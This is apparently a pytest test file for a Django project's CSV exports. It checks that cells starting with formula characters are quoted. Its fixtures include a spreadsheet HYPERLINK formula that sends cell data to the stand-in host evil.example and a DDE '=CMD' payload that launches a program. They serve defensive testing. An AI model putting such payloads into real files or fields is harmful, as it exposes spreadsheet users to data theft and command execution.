"""A3: text from outside (a User-Agent, a survey id, a user name) never starts a formula in any CSV export."""

import uuid
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from hunt.classify.models import Classification
from hunt.core.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
from hunt.exports.classifications import classification_csv_chunks
from hunt.exports.filters import ExportFilters
from hunt.exports.selectors import classifications_for_export
from tests.exports.conftest import World
from tests.exports.helpers import body, frame

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _cells(data: bytes) -> list[str]:
    table = frame(data).astype(str)
    return [cell for column in table.columns for cell in table[column]]


def _classify_with_user_agent(world: World) -> None:
    client = Client(HTTP_USER_AGENT=HOSTILE)
    subject = world.subjects[5]
    body = {"subject": subject.pk, "answer": "galaxy", "idempotency_key": str(uuid.uuid4())}
    url = reverse("api-classifications")
    assert client.post(url, body, content_type="application/json").status_code == 201
    assert Classification.objects.filter(user_agent=HOSTILE).exists()


def test_the_guard_prefixes_every_formula_start() -> None:
    for prefix in FORMULA_PREFIXES:
        assert spreadsheet_safe(f"{prefix}1+1") == f"'{prefix}1+1"
    assert spreadsheet_safe("Mozilla/5.0") == "Mozilla/5.0"
    assert spreadsheet_safe("") == ""


@pytest.mark.parametrize("layout", ["flat", "panoptes"])
def test_a_hostile_user_agent_is_not_a_formula_in_the_classification_csv(
    scientist_client: Any, world: World, layout: str
) -> None:
    _classify_with_user_agent(world)
    subject_set = world.subjects[0].subject_set
    subject_set.name = "@SUM(1+1)"
    subject_set.save()
    get_user_model().objects.filter(username="alice").update(username="-2+3")
    data = body(scientist_client.get(reverse("api-export-classifications"), {"layout": layout}))
    cells = _cells(data)
    assert not [cell for cell in cells if cell[:1] in FORMULA_PREFIXES]
    if layout == "flat":
        assert f"'{HOSTILE}" in cells
        assert "'-2+3" in cells
    else:
        assert "'-2+3" in cells


def test_the_python_writer_guards_the_same_cells_as_copy(world: World) -> None:
    _classify_with_user_agent(world)
    rows = classifications_for_export(ExportFilters())
    for layout in ("flat", "panoptes"):
        by_copy = frame(b"".join(classification_csv_chunks(rows, layout=layout)))
        by_python = frame(
            b"".join(classification_csv_chunks(rows, layout=layout, force_python=True))
        )
        for column in ("user_name", "user_agent", "workflow_name", "subject_set", "external_id"):
            if column in by_copy:
                assert by_copy[column].tolist() == by_python[column].tolist(), column


def test_subject_and_snapshot_csv_guard_survey_ids(scientist_client: Any, world: World) -> None:
    for subject in world.subjects:
        subject.external_id = f"=CMD|'/c calc'!A{subject.pk}"
        subject.save()
    snapshot = world.champion.run.snapshot
    for url in (
        reverse("api-export-subjects"),
        reverse("api-export-snapshot-rows", args=[snapshot.pk]),
    ):
        cells = _cells(body(scientist_client.get(url)))
        assert not [cell for cell in cells if cell[:1] in FORMULA_PREFIXES], url
        assert any(cell.startswith("'=CMD") for cell in cells), url
